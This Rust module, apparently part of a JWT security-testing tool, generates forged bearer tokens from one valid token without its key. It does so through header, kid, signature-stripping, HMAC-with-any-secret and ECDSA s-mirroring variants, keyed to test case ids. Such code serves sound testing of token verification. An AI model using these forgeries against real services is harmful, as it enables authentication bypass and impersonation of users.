//! Hostile tokens made from one valid token, without the key that signed it.
//!
//! Every forgery keeps the valid token's claims unless changing them is the
//! attack, so that an API which accepts one has been fooled about the proof and
//! about nothing else.

mod header;
mod kid;
mod listening;
mod parts;
mod public_key;
mod signature;
mod tail;

use doorward_jose::{
    algorithm::Algorithm,
    base64url, dangerous,
    json::{Object, Value},
    signing_key::SigningKey,
    token::Inspected,
};
use serde::Serialize;

pub use self::listening::{Lure, lure};

/// One hostile token.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Forgery {
    /// Id of its case in [`crate::case::all`].
    pub case: &'static str,
    /// Which variant of the case it is, for people.
    pub what: String,
    /// What to send as bearer token. Some hold bytes that an HTTP field cannot
    /// carry (line feed, NUL) or more than a server takes; a sender that cannot
    /// put one on the wire counts it as not sent.
    pub token: String,
}

/// Every forgery of `valid`; those that need the published keys only when
/// `jwks` is given. Empty if `valid` is not a compact JWS with JSON inside.
///
/// ```
/// use doorward_attack::forge::forge;
///
/// let valid = "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ1c2VyIn0.AAAA";
/// let forgeries = forge(valid, None);
/// assert!(forgeries.iter().any(|forgery| forgery.case == "SIG-001"));
/// assert!(forgeries.iter().all(|forgery| forgery.token != valid));
/// ```
pub fn forge(valid: &str, jwks: Option<&str>) -> Vec<Forgery> {
    let Some(mut workshop) = Workshop::open(valid) else {
        return Vec::new();
    };
    signature::forge(&mut workshop);
    tail::forge(&mut workshop);
    header::forge(&mut workshop);
    kid::forge(&mut workshop);
    parts::forge(&mut workshop);
    if let Some(jwks) = jwks {
        public_key::forge(&mut workshop, jwks);
    }
    workshop.forgeries
}

/// ECDSA signatures `r, n - s` for `r, s`: as good as the genuine one by the
/// mathematics of it (SIG-017). Not among the forgeries, because to take one is
/// no fault as long as nothing is keyed by a token's text.
pub fn mirrored(valid: &str) -> Option<Forgery> {
    let workshop = Workshop::open(valid)?;
    let token = tail::mirrored(&workshop)?;
    Some(Forgery {
        case: "SIG-017",
        what: "s mirrored".to_owned(),
        token,
    })
}

/// The order of the group of an ECDSA algorithm.
pub(crate) fn group_order_of(algorithm: Algorithm) -> Option<Vec<u8>> {
    signature::group_order(algorithm)
}

/// The token with one bit of its signature turned, or of its text when it has
/// no signature: what nothing that checks anything may take.
pub fn damaged(valid: &str) -> String {
    if let Some(workshop) = Workshop::open(valid) {
        let mut signature = workshop.signature.clone();
        let middle = signature.len() / 2;
        if let Some(byte) = signature.get_mut(middle) {
            *byte ^= 0x10;
            return workshop.with_signature(&signature);
        }
    }
    let middle = valid.len() * 3 / 4;
    let damaged = valid
        .char_indices()
        .map(|(at, character)| match at == middle {
            true if character == 'x' => 'y',
            true => 'x',
            false => character,
        });
    damaged.collect()
}

/// The valid token, taken apart, and what was made of it.
struct Workshop<'v> {
    valid: &'v str,
    /// The three parts, encoded.
    header_part: &'v str,
    payload_part: &'v str,
    signature_part: &'v str,
    /// The third, decoded.
    signature: Vec<u8>,
    header: Object,
    claims: Object,
    forgeries: Vec<Forgery>,
}

impl<'v> Workshop<'v> {
    fn open(valid: &'v str) -> Option<Self> {
        let Inspected { header, payload } = Inspected::parse(valid).ok()?;
        let (header_part, rest) = valid.split_once('.')?;
        let (payload_part, signature_part) = rest.split_once('.')?;
        let signature = base64url::decode(signature_part).ok()?;
        Some(Self {
            valid,
            header_part,
            payload_part,
            signature_part,
            signature,
            header,
            claims: payload,
            forgeries: Vec::new(),
        })
    }

    fn add(&mut self, case: &'static str, what: impl Into<String>, token: String) {
        self.forgeries.push(Forgery {
            case,
            what: what.into(),
            token,
        });
    }

    /// The valid token's algorithm, if it is one that we know.
    fn algorithm(&self) -> Option<Algorithm> {
        self.header
            .get("alg")
            .and_then(Value::as_str)
            .and_then(Algorithm::from_name)
    }

    /// The valid header with one member set.
    fn header_with(&self, name: &str, value: impl Into<Value>) -> Object {
        let mut header = self.header.clone();
        header.insert(name.to_owned(), value.into());
        header
    }

    /// Another header over the valid payload and signature.
    fn with_header(&self, header: impl AsRef<[u8]>) -> String {
        let header = base64url::encode(header);
        format!("{header}.{}.{}", self.payload_part, self.signature_part)
    }

    /// Another payload under the valid header and signature.
    fn with_payload(&self, payload: impl AsRef<[u8]>) -> String {
        let payload = base64url::encode(payload);
        format!("{}.{payload}.{}", self.header_part, self.signature_part)
    }

    /// Another signature over the valid header and payload.
    fn with_signature(&self, signature: &[u8]) -> String {
        let signature = base64url::encode(signature);
        format!("{}.{}.{signature}", self.header_part, self.payload_part)
    }

    /// The valid claims under `header`, authenticated with any secret.
    fn hmac(&self, algorithm: Algorithm, mut header: Object, secret: &[u8]) -> Option<String> {
        header.insert("alg".to_owned(), algorithm.name().into());
        let input = format!("{}.{}", base64url::encode(text(header)), self.payload_part);
        let tag = dangerous::hmac(algorithm, secret, input.as_bytes())?;
        Some(format!("{input}.{}", base64url::encode(tag)))
    }

    /// The valid claims under `header`, signed with a key of our own.
    fn signed(&self, key: &SigningKey, mut header: Object) -> Option<String> {
        header.insert("alg".to_owned(), key.algorithm().name().into());
        let input = format!("{}.{}", base64url::encode(text(header)), self.payload_part);
        let signature = dangerous::sign(key, input.as_bytes()).ok()?;
        Some(format!("{input}.{}", base64url::encode(signature)))
    }
}

fn text(object: Object) -> String {
    Value::Object(object).to_string()
}

#[cfg(test)]
mod tests;
